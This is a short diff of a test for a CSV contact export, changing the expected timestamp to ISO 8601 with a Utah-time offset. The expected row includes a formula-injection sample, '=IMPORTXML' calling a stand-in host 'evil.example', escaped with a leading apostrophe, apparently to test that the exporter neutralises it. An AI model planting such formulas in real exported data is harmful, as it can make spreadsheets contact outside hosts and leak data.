@@ -29,7 +29,7 @@ test('a contact export has a header, one row per message in Utah time, quoting a
   expect(header).toBe('Reference,Status,Received (Utah time),Name,Email,Phone,Community,Message,Files')
   // 18:05 UTC in July is 12:05 in Denver (MDT, UTC-6).
   expect(row).toBe(
-    `${first.reference},New,2026-07-04 12:05,"Ann ""AJ"" Smith",ann@example.com,'+1 801 555 0100,,` +
+    `${first.reference},New,2026-07-04T12:05:00-06:00,"Ann ""AJ"" Smith",ann@example.com,'+1 801 555 0100,,` +
       `"'=IMPORTXML(""http://evil.example"")\nsecond line",photo.png`,
   )
   expect(end).toBe('')
